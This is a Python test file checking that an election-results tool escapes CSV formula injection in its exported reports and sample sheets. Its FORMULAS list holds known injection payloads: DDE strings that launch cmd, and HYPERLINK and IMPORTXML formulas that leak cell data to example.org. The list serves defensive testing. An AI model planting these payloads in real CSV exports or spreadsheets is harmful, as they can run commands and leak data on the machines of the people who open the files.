"""What begins like a formula leaves as text in every CSV, and comes back as what it was."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from electcheck.files.csv_text import as_text, as_written, csv_text, rows_of
from tests.command import run

# The corpus of OWASP's page on CSV injection and of "the absurdly underestimated dangers of CSV".
FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?leak="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "＝1+1",
    "+7 701 234 56 78",
    "-",
    "=",
)
RUNS = re.compile(r"[\s\x00-\x1f]*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"[-+]?[0-9][0-9 .,]*(?:[eE][-+]?[0-9]+)?\s?%?")


def runs(cell: str) -> bool:
    """Tell, by rules of its own, whether a spreadsheet would take a cell for a formula."""
    return bool(RUNS.match(cell)) and not NUMBER.fullmatch(cell)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_corpus_runs(formula: str) -> None:
    assert runs(formula) or formula == "+7 701 234 56 78"
    assert not runs(as_text(formula))
    assert as_written(as_text(formula)) == formula


@given(
    st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=4), max_size=4)
)
def test_no_written_cell_runs_and_what_was_written_is_read(rows: list[list[str]]) -> None:
    text = csv_text(["a"], rows)
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(runs(cell) for cell in row)
    plain = all(not re.search(r"[^\S ]|[^\x20-\x7e]", cell) for row in rows for cell in row)
    if plain and all(any(row) for row in rows):
        assert [row for _, row in rows_of(text, "x")][1:] == rows


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_stay_numbers(number: float) -> None:
    assert as_text(number) == number
    assert as_text(str(number)) == str(number)


def test_names_of_stations_do_not_run_in_the_list_of_issues(tmp_path: Path) -> None:
    stations = FORMULAS[:5]
    lines = ["uik,registered,valid", *(f"{name},10,90" for name in stations)]
    (tmp_path / "x.csv").write_text("\n".join(lines) + "\n", "utf-8")
    (tmp_path / "map.yaml").write_text(
        "station: uik\nregistered: registered\nvalid: valid\n", "utf-8"
    )
    ran = run(
        "results", "check", tmp_path / "x.csv", "--map", tmp_path / "map.yaml", "--format", "csv"
    )
    assert ran.code == 0, ran.err
    rows = list(csv.reader(io.StringIO(ran.out)))
    assert len(rows) > len(stations)
    assert not [cell for row in rows for cell in row if runs(cell)]


def test_names_do_not_run_in_the_sheet_of_a_draw_and_the_draw_still_holds(tmp_path: Path) -> None:
    frame = tmp_path / "frame.csv"
    names = [f"=station({n})" for n in range(20)]
    rows = [f"{name},{'north' if n % 2 else '@south'},{100 + n}" for n, name in enumerate(names)]
    frame.write_text("id,region,voters\n" + "\n".join(rows) + "\n", "utf-8")
    out = tmp_path / "drawn"
    ran = run(
        "sample", "draw", frame, "--seed", "7", "--station", "id", "--stratum", "region",
        "--n", "8", "--reserves", "1", "--out", out,
    )  # fmt: skip
    assert ran.code == 0, ran.err
    for name in ("sample.csv", "reserve.csv"):
        with (out / name).open(encoding="utf-8", newline="") as stream:
            assert not [cell for row in csv.reader(stream) for cell in row if runs(cell)]
    design = tmp_path / "design.yaml"
    design.write_text(
        "format: 1\nstation: id\nstratum: region\nsizes: {stations: N_h}\n"
        "estimates: [{name: v, mean: voters}]\n",
        "utf-8",
    )
    ran = run(
        "sample", "estimate", out / "sample.csv", "--design", design, "--frame", frame,
        "--seal", out / "seal.json",
    )  # fmt: skip
    assert ran.code == 0, ran.err
